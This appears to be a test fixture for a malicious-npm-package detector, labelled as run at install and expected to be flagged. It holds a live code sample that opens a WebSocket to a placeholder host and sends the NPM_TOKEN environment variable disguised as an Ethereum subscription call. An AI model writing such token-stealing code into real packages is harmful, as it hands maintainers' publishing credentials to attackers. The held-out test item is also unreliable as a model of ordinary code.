// when: install
// expect: malicious
// source: ws >= 8 is used through its named export (`const { WebSocket } = require('ws')`, tsc's
// `new ws_1.WebSocket(...)`); a socket made that way sends what it is given (seventh held-out set, 2026)
const ws_1 = require('ws');

let sock = null;
function open() {
  sock = new ws_1.WebSocket('wss://eth.ws-gateway.invalid/rpc');
  sock.on('open', () => sock.send(JSON.stringify({ method: 'eth_subscribe', params: [process.env.NPM_TOKEN] })));
}
open();
